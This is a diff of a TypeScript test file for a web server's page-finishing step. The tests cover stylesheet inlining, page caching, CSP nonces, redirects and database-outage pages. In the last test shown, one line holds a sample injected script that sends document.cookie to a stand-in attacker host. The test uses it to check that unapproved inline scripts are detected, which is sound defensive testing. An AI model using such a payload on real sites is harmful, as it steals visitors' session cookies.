@@ -1,17 +1,26 @@
 import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { IncomingMessage, ServerResponse } from 'node:http';
 import { Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { brotliDecompressSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { createPageFinisher, type PagePlan } from '@/server/http/finish-page';
 import { createPageCache } from '@/server/http/page-cache';
 import { SHARED_PAGE_CACHE_CONTROL } from '@/server/http/page-cache-headers';
+import { createStylesheetStep } from '@/server/http/page-stylesheet';
 import { PLACEHOLDERS, visitorValues } from '@/server/http/page-template';
 import type { RequestContext } from '@/server/http/request-context';
 
 const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
 const CSS_HREF = '/_next/static/chunks/site.css';
 const CSS = '.used{color:red}.unused{color:blue}';
+/** A build folder holding the page's stylesheet, as `.next` does. */
+const build = mkdtempSync(path.join(tmpdir(), 'finish-page-'));
+mkdirSync(path.join(build, 'static', 'chunks'), { recursive: true });
+writeFileSync(path.join(build, 'static', 'chunks', 'site.css'), CSS);
+const finishStylesheets = createStylesheetStep(build);
 const flight = (nonce: string) => `<script nonce="${nonce}">self.__next_f.push([1,"page"])</script>`;
 
 /** A page as Next.js writes it: a stylesheet link in the head, scripts with the render's nonce. */
@@ -35,7 +44,7 @@ function exchange(acceptEncoding = '') {
 function setUp() {
   const refusals: number[] = [];
   const { finishPage, sendKeptPage } = createPageFinisher({
-    readStylesheet: (href) => (href === CSS_HREF ? CSS : undefined),
+    finishStylesheets,
     https: false,
     onRefused: (refused) => refusals.push(refused),
   });
@@ -64,9 +73,9 @@ describe('finishing a page', () => {
     const fill = pageCache.startFill('/about');
     const plan: PagePlan = { renderNonce: 'render-1', policyNonce: '', sharing: 'shared', fill };
     const { request, response } = exchange('br');
-    const body = finishPage(request, response, context(), plan, page('render-1')).toString();
+    const body = (await finishPage(request, response, context(), plan, page('render-1'))).toString();
 
-    expect(body).toContain(`<style data-inlined-from="${CSS_HREF}">.used{color:red}</style>`);
+    expect(body).toContain('<style>.used{color:red}</style></head>');
     expect(body).not.toContain('.unused');
     expect(response.getHeader('link')).toBe('</font.woff2>; rel=preload; as="font"');
     const sources = scriptSources(response);
@@ -94,7 +103,7 @@ describe('finishing a page', () => {
     let now = 1_000_000;
     const { finishPage, context } = setUp();
     const pageCache = createPageCache({ lastChangeAt: () => 0, now: () => now });
-    const render = () => {
+    const render = async () => {
       const { request, response } = exchange('br');
       const plan: PagePlan = {
         renderNonce: 'render-1',
@@ -102,31 +111,31 @@ describe('finishing a page', () => {
         sharing: 'shared',
         fill: pageCache.startFill('/a'),
       };
-      return { response, sent: finishPage(request, response, context(), plan, page('render-1')) };
+      return { response, sent: await finishPage(request, response, context(), plan, page('render-1')) };
     };
-    const first = render();
+    const first = await render();
     // The first render goes out as it is (the compression middleware compresses it on the fly).
     expect(first.response.hasHeader('content-encoding')).toBe(false);
     await expect.poll(() => pageCache.get('/a')?.compressed.br !== undefined).toBe(true);
     const copy = pageCache.get('/a')?.compressed.br;
     now += 61_000;
-    const again = render();
+    const again = await render();
     expect(again.response.getHeader('content-encoding')).toBe('br');
     expect(again.sent).toBe(copy);
     expect(brotliDecompressSync(again.sent).equals(first.sent)).toBe(true);
   });
 
-  it('a page for one visitor: its policy names the nonce, and nothing keeps it', () => {
+  it('a page for one visitor: its policy names the nonce, and nothing keeps it', async () => {
     const { finishPage, refusals, context } = setUp();
     const { request, response } = exchange();
     const plan: PagePlan = { renderNonce: 'visitor-1', policyNonce: 'visitor-1', sharing: undefined };
-    finishPage(request, response, context(), plan, page('visitor-1'));
+    await finishPage(request, response, context(), plan, page('visitor-1'));
     expect(scriptSources(response)).toEqual(['script-src', "'self'", "'nonce-visitor-1'"]);
     expect(response.hasHeader('x-page-cache')).toBe(false);
     expect(refusals).toEqual([]);
   });
 
-  it('a template: kept with its placeholders, sent filled with each visitor’s values and nonce', () => {
+  it('a template: kept with its placeholders, sent filled with each visitor’s values and nonce', async () => {
     const { finishPage, sendKeptPage, pageCache, context } = setUp();
     const visitor = visitorValues('a-test-secret-that-is-long-enough-0123456789');
     const form = `<form><input value="${PLACEHOLDERS.formStartToken}"><input value="${PLACEHOLDERS.idempotencyKey}"></form>`;
@@ -139,7 +148,7 @@ describe('finishing a page', () => {
       visitor,
       fill,
     };
-    const sent = finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
+    const sent = (await finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form))).toString();
     expect(sent).toContain(visitor.formStartToken);
     expect(sent).toContain(`nonce="${visitor.nonce}"`);
     expect(scriptSources(response)).toContain(`'nonce-${visitor.nonce}'`);
@@ -163,7 +172,7 @@ describe('finishing a page', () => {
     );
   });
 
-  it('a redirect: a line with the link instead of Next.js’s page, nothing that runs, kept for a minute', () => {
+  it('a redirect: a line with the link instead of Next.js’s page, nothing that runs, kept for a minute', async () => {
     const { finishPage, sendKeptPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/products');
     const { request, response } = exchange();
@@ -171,7 +180,7 @@ describe('finishing a page', () => {
     response.setHeader('Location', '/products/fish-seed?a=1&b="2"');
     response.setHeader('Cache-Control', 's-maxage=3600, stale-while-revalidate=31532400');
     const plan: PagePlan = { renderNonce: 'r3', policyNonce: '', sharing: 'shared', fill };
-    const body = finishPage(request, response, context(), plan, page('r3')).toString();
+    const body = (await finishPage(request, response, context(), plan, page('r3'))).toString();
     expect(body).toContain('<a href="/products/fish-seed?a=1&amp;b=&quot;2&quot;">');
     expect(body).not.toContain('<script');
     expect(scriptSources(response)).toEqual(['script-src', "'self'"]);
@@ -191,23 +200,23 @@ describe('finishing a page', () => {
     expect(brotliDecompressSync(sent.bytes()).toString()).toBe(body);
   });
 
-  it('a redirect rendered afresh names its address once (Next.js sets it twice then)', () => {
+  it('a redirect rendered afresh names its address once (Next.js sets it twice then)', async () => {
     const { finishPage, context } = setUp();
     const { request, response } = exchange();
     response.statusCode = 307;
     response.setHeader('Location', ['/products/fish-seed', '/products/fish-seed']);
     const plan: PagePlan = { renderNonce: 'r4', policyNonce: '', sharing: 'shared' };
-    const body = finishPage(request, response, context(), plan, page('r4')).toString();
+    const body = (await finishPage(request, response, context(), plan, page('r4'))).toString();
     expect(response.getHeader('location')).toBe('/products/fish-seed');
     expect(body).toContain('<a href="/products/fish-seed">');
   });
 
-  it('a page that met an unreachable database: 503, its request id, kept by nobody', () => {
+  it('a page that met an unreachable database: 503, its request id, kept by nobody', async () => {
     const { finishPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/blog');
     const { request, response } = exchange();
     const unavailable = { ...context(), databaseUnavailable: true };
-    const body = finishPage(
+    const body = await finishPage(
       request,
       response,
       unavailable,
@@ -222,11 +231,11 @@ describe('finishing a page', () => {
     expect(pageCache.get('/blog')).toBeUndefined();
   });
 
-  it('tells of an inline script that is neither the render’s nor the framework’s', () => {
+  it('tells of an inline script that is neither the render’s nor the framework’s', async () => {
     const { finishPage, refusals, context } = setUp();
     const { request, response } = exchange();
     const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
-    finishPage(
+    await finishPage(
       request,
       response,
       context(),
